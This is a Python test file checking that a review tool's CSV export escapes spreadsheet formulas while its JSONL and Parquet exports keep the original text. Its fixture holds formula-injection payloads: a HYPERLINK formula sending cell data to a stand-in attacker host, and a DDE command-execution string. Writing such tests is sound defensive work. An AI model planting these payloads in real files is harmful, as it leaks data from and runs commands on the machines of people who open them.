"""CSV export is safe to open in a spreadsheet (no formula runs); JSONL and Parquet keep the exact text."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest

from configuration.settings import Settings
from loupe.qa import Answer
from review.annotations import record_verdict
from review.export import csv_safe, export_bytes
from review.records import record_from_answer
from tests.conftest import ADMIN
from tests.db_fixtures import db_url, sessions  # noqa: F401  (fixtures)

HOSTILE = {
    "question": "=HYPERLINK(\"https://evil.example/?\"&A1, \"click\")",
    "answer": "+cmd|' /C calc'!A0",
    "comment": "-2+3",
    "annotator": "@SUM(1+1)",
    "corrected": "\t=1+1",
    "doc_id": "\r=1+1",
}


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_cells_starting_like_a_formula_are_quoted(value):
    assert csv_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["", "plain", " =1", "1-2", "'=already", None, 5, -3.5])
def test_other_cells_are_unchanged(value):
    assert csv_safe(value) == value


def test_csv_export_neutralises_formulas_and_the_other_formats_keep_the_text(sessions, tmp_path):  # noqa: F811
    answer = Answer(
        question=HOSTILE["question"], answer=HOSTILE["answer"],
        generator={"kind": "extractive", "model": "extractive", "fallback_reason": None},
        passages=[{"id": "d#0", "doc_id": HOSTILE["doc_id"], "title": "=T", "page": 1, "text": "=passage", "score": 0.1,
                   "ranks": {"bm25": 1, "dense": None}}],
        prompt="PROMPT", mode="hybrid", doc_ids=[HOSTILE["doc_id"]], timings={},
    )
    with sessions() as session:
        record = record_from_answer(session, answer=answer, settings=Settings(data_dir=tmp_path))
        record_verdict(session, actor=ADMIN, record_id=record.id, annotator=HOSTILE["annotator"], verdict="correct",
                       corrected_answer=HOSTILE["corrected"], comment=HOSTILE["comment"])
    with sessions() as session:
        csv_bytes = export_bytes(session, "csv", actor=ADMIN)[0]
        jsonl = export_bytes(session, "jsonl", actor=ADMIN)[0]
        parquet = export_bytes(session, "parquet", actor=ADMIN)[0]

    rows = list(csv.DictReader(io.StringIO(csv_bytes.decode("utf-8"), newline="")))
    assert len(rows) == 1, rows
    row = rows[0]
    assert row["question"] == "'" + HOSTILE["question"]
    assert row["answer"] == "'" + HOSTILE["answer"]
    assert row["comment"] == "'" + HOSTILE["comment"]
    assert row["annotator"] == "'" + HOSTILE["annotator"]
    assert row["corrected_answer"] == "'" + HOSTILE["corrected"]
    assert row["doc_id"] == "'" + HOSTILE["doc_id"]
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())

    line = json.loads(jsonl.decode("utf-8").splitlines()[0])
    assert (line["question"], line["answer"], line["doc_id"]) == (HOSTILE["question"], HOSTILE["answer"], HOSTILE["doc_id"])
    assert line["annotations"][0]["comment"] == HOSTILE["comment"]
    frame = pd.read_parquet(io.BytesIO(parquet))
    assert frame.loc[0, "question"] == HOSTILE["question"] and frame.loc[0, "annotator"] == HOSTILE["annotator"]
    assert frame.loc[0, "corrected_answer"] == HOSTILE["corrected"] and frame.loc[0, "doc_id"] == HOSTILE["doc_id"]
